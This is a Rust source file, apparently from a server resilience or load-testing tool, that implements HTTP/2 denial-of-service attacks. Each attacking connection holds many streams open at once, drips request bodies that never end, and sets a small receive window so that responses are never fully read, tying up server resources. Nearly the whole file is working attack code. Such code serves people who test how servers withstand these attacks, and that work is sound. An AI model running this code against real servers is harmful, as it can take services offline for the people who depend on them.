//! Attacks over HTTP/2: many streams on one connection that never end, or whose responses are not
//! read.

use std::{future::poll_fn, io, sync::Arc, time::Duration};

use bytes::Bytes;
use futures_util::{StreamExt as _, stream::FuturesUnordered};
use h2::{
    SendStream,
    client::{Builder, ResponseFuture, SendRequest},
};
use http::Request;

use super::{Crowd, Member, Peer};

/// What an attacking connection does.
#[derive(Clone)]
pub struct Streams {
    /// Streams at once. Some time after one ends, another begins.
    pub count: usize,
    /// How many bytes of each response are accepted: the initial window.
    pub window: u32,
    /// The requests, in turn.
    pub requests: Arc<Vec<Request<()>>>,
    /// The part of each body that is sent; the body never ends. `None`: the request has no body.
    pub body: Option<Body>,
}

/// A body that does not end.
#[derive(Clone)]
pub struct Body {
    /// Sent at once.
    pub opening: Bytes,
    /// Sent repeatedly.
    pub drip: Bytes,
}

/// Pause between two drips.
const DRIP: Duration = Duration::from_millis(700);
/// Pause between the end of a stream and the next one.
const AGAIN: Duration = Duration::from_secs(2);
/// The default window.
pub const USUAL_WINDOW: u32 = 65_535;

impl Streams {
    /// Joins a crowd.
    pub fn join(self, crowd: &mut Crowd, peer: Peer) {
        crowd.add(peer, move |member| {
            let streams = self.clone();
            async move { streams.run(member).await }
        });
    }

    async fn run(self, member: Member) -> io::Result<()> {
        let stream = member.connect().await?;
        let mut builder = Builder::new();
        builder.initial_window_size(self.window);
        let (send, connection) = builder.handshake::<_, Bytes>(stream).await.map_err(io::Error::other)?;
        let ended = tokio::select! {
            ended = connection => ended,
            ended = self.keep_up(send, &member) => ended,
        };
        ended.map_err(io::Error::other)
    }

    /// Keeps this many streams open.
    async fn keep_up(&self, mut send: SendRequest<Bytes>, member: &Member) -> Result<(), h2::Error> {
        let mut open = FuturesUnordered::new();
        let mut sent = 0;
        loop {
            while open.len() < self.count {
                tokio::select! {
                    ready = poll_fn(|context| send.poll_ready(context)) => ready?,
                    Some(()) = open.next(), if !open.is_empty() => continue,
                }
                let request = self.requests[sent % self.requests.len()].clone();
                let (response, stream) = send.send_request(request, self.body.is_none())?;
                open.push(exchange(response, stream, self.body.clone()));
                sent += 1;
                if sent == self.count {
                    member.is_in_place();
                }
            }
            open.next().await;
        }
    }
}

/// Sends a body that never ends, and reads the response as far as the window allows.
async fn exchange(response: ResponseFuture, mut stream: SendStream<Bytes>, body: Option<Body>) {
    let drips = async {
        let Some(body) = body else { return std::future::pending().await };
        if stream.send_data(body.opening, false).is_err() {
            return;
        }
        loop {
            tokio::time::sleep(DRIP).await;
            if body.drip.is_empty() {
                continue;
            }
            if stream.send_data(body.drip.clone(), false).is_err() {
                return;
            }
        }
    };
    let takes = async {
        let Ok(response) = response.await else { return };
        let mut content = response.into_body();
        // Bytes that are read are not returned to the window.
        while let Some(Ok(_)) = content.data().await {}
    };
    tokio::select! {
        () = drips => {}
        () = takes => {}
    }
    drop(stream);
    tokio::time::sleep(AGAIN).await;
}
